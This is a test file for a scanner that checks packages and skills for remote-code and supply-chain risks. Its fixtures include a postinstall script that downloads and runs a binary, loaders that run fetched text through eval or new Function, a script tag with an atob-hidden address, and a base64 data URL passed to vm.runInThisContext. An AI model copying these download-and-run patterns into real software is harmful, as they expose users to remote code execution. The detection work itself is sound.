import { describe, expect, test } from "vitest";
import { loadCatalogue } from "../../../src/catalogue/load.ts";
import { analyseExample } from "../../catalogue/analyse-example.ts";

const catalogue = loadCatalogue();

/** `id severity` of what is said about code that runs, of capabilities nothing. */
async function said(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const findings = await analyseExample({ why: "", files }, catalogue);
  return findings
    .filter(({ id, role }) => role !== "capability" && /^(?:execution|supply-chain)\//u.test(id))
    .map(({ id, severity }) => `${id} ${severity}`);
}

const REGISTRY = ["registry", "npmjs", "org"].join(".");

/** An installer that fetches the part of its program for one system, following redirects by hand. */
const installer = (address: string): string => `
const https = require("node:https");
const fs = require("node:fs");
const zlib = require("node:zlib");
const { execFileSync } = require("node:child_process");
const { version } = require("./package.json");
function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if (res.statusCode === 302) return get(res.headers.location).then(resolve, reject);
      const parts = [];
      res.on("data", (part) => parts.push(part));
      res.on("end", () => resolve(Buffer.concat(parts)));
    }).on("error", reject);
  });
}
async function install(target) {
  const bytes = zlib.gunzipSync(await get(\`${address}\`)).subarray(512);
  fs.writeFileSync(target, bytes);
  fs.chmodSync(target, 0o755);
  execFileSync(target, ["--version"]);
}
install("./sailcloth-native");
`;
const manifest = (more: object): string =>
  JSON.stringify({ name: "sailcloth", version: "2.1.0", scripts: { postinstall: "node install.js" }, ...more });
const PART = `https://${REGISTRY}/@sailcloth/linux-x64/-/linux-x64-\${version}.tgz`;

describe("an installer that fetches a package from the registry", () => {
  test("which the manifest asks for anyway", async () => {
    const files = {
      "package.json": manifest({ optionalDependencies: { "@sailcloth/linux-x64": "2.1.0" } }),
      "install.js": installer(PART),
    };
    expect(await said(files)).toEqual([]);
  });

  test.each([
    ["of which the manifest says nothing", PART, {}],
    [
      "from a host with the registry's name",
      PART.replace(REGISTRY, `${REGISTRY}.mirror.example`),
      {
        optionalDependencies: { "@sailcloth/linux-x64": "2.1.0" },
      },
    ],
    ["unencrypted", PART.replace("https:", "http:"), { optionalDependencies: { "@sailcloth/linux-x64": "2.1.0" } }],
  ])("near miss: %s", async (_name, address, more) => {
    const found = await said({ "package.json": manifest(more), "install.js": installer(address) });
    expect(found).toContainEqual(
      expect.stringMatching(/^execution\/(?:unreviewed-installer|download-and-run-from-stranger) /u),
    );
  });
});

describe("code whose address the caller of a library gives", () => {
  const LOADER = `
exports.load = function load(url, callback) {
  var request = new XMLHttpRequest();
  request.open("GET", url, true);
  request.onreadystatechange = function () { if (request.readyState === 4) new Function(request.responseText)(); };
  request.send(null);
};
`;
  const library = JSON.stringify({ name: "kilnfire", version: "1.0.0", main: "index.js" });

  test("in a file of a library that nothing of it leads to", async () => {
    const files = { "package.json": library, "index.js": "exports.fire = () => 1;", "lib/page.js": LOADER };
    expect(await said(files)).toEqual(["execution/remote-code low"]);
  });

  test.each([
    ["to which its entry leads", { "package.json": library, "index.js": 'module.exports = require("./lib/page.js");' }],
    ["beside a skill", { "SKILL.md": "---\nname: kilnfire\ndescription: Fires kilns.\n---\n\n# Kiln\n" }],
  ])("near miss: %s", async (_name, files) => {
    expect(await said({ ...files, "lib/page.js": LOADER })).toContainEqual("execution/remote-code medium");
  });

  test("near miss: an option that is called src", async () => {
    const runs = "module.exports = async (options) => eval(await (await fetch(options.src)).text());\n";
    const files = { "package.json": library, "index.js": 'require("./lib/page.js")(JSON.parse(process.argv[2]));' };
    expect(await said({ ...files, "lib/page.js": runs })).toContainEqual("execution/remote-code medium");
  });

  test("near miss: the script of a page, but its address is hidden", async () => {
    const hidden =
      'const s = document.createElement("script");\ns.src = atob(location.hash.slice(1));\ndocument.body.append(s);\n';
    const plain = hidden.replace("atob(location.hash.slice(1))", "window.addresses[0]");
    const files = { "package.json": library, "index.js": 'require("./lib/page.js");' };
    expect(await said({ ...files, "lib/page.js": plain })).toEqual(["execution/remote-code low"]);
    expect(await said({ ...files, "lib/page.js": hidden })).not.toEqual(["execution/remote-code low"]);
  });
});

describe("a dependency that runs what it decodes", () => {
  const POLYFILL = `
const vm = require("node:vm");
const { workerData } = require("node:worker_threads");
function parse(url) {
  const [, , encoding, data] = url.match(/^data: *([^;,]*)(?:; *([^,]*))?,(.*)$/) || [];
  return encoding === "base64" ? Buffer.from(data, "base64").toString() : data;
}
if (/^data:/.test(workerData.mod)) vm.runInThisContext(parse(workerData.mod));
`;
  const files = {
    "SKILL.md": "---\nname: tide-sounds\ndescription: Plays tides.\n---\n\nRun `node index.js`.\n",
    "index.js": 'require("wave-worker");',
  };

  test("which its caller gives it", async () => {
    expect(await said({ ...files, "node_modules/wave-worker/index.js": POLYFILL })).toEqual([
      "execution/encoded-code low",
    ]);
  });

  test("near miss: no dependency", async () => {
    expect(await said({ ...files, "index.js": POLYFILL })).toEqual(["execution/encoded-code medium"]);
  });

  test("near miss: packed", async () => {
    const packed = POLYFILL.replace(
      'Buffer.from(data, "base64")',
      'require("node:zlib").inflateSync(Buffer.from(data, "base64"))',
    );
    expect(await said({ ...files, "node_modules/wave-worker/index.js": packed })).not.toEqual([
      "execution/encoded-code low",
    ]);
  });
});

describe("a script that clones a repository and runs it", () => {
  const CLONE = "git clone https://github.com/loomshed/integration.git --depth 1\ncd integration\n./run.sh\n";
  const of = (scripts: object, homepage: string): string =>
    JSON.stringify({ name: "loomshed", version: "1.0.0", homepage, scripts });

  test.each(["https://loomshed.github.io/", "https://github.com/loomshed/loomshed"])(
    "of the account whose home is %s, for those who work on it",
    async (homepage) => {
      const files = {
        "package.json": of({ "test:integration": "./scripts/try.sh" }, homepage),
        "scripts/try.sh": CLONE,
      };
      expect(await said(files)).toEqual([]);
    },
  );

  test.each([
    ["of somebody else", of({ "test:integration": "./scripts/try.sh" }, "https://weaver.github.io/")],
    ["on installation", of({ postinstall: "./scripts/try.sh" }, "https://loomshed.github.io/")],
  ])("near miss: %s", async (_name, text) => {
    expect(await said({ "package.json": text, "scripts/try.sh": CLONE })).not.toEqual([]);
  });
});
